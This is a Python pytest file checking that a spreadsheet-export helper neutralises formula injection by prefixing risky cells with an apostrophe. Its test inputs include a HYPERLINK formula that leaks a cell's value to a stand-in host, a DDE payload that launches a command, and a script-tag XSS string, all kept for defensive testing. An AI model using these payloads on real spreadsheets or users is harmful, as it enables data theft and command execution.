import csv
import io

import pytest

from careerconv.spreadsheet import safe_cell, safe_row


@pytest.mark.parametrize(("typed", "written"), [
    ("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Engineering", "Engineering"),
    ("R&D = research", "R&D = research"),
    ("", ""),
])
def test_text_that_a_spreadsheet_would_run_is_written_as_text(typed, written):
    assert safe_cell(typed) == written


def test_numbers_and_missing_values_pass_unchanged():
    assert safe_row([-3, 0.12, None, "Sales"]) == [-3, 0.12, None, "Sales"]


def test_a_guarded_row_reads_back_as_the_typed_text_behind_an_apostrophe():
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(["=1+1", "Design, Berlin", "<script>alert(1)</script>"]))

    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["'=1+1", "Design, Berlin",
                                                               "<script>alert(1)</script>"]
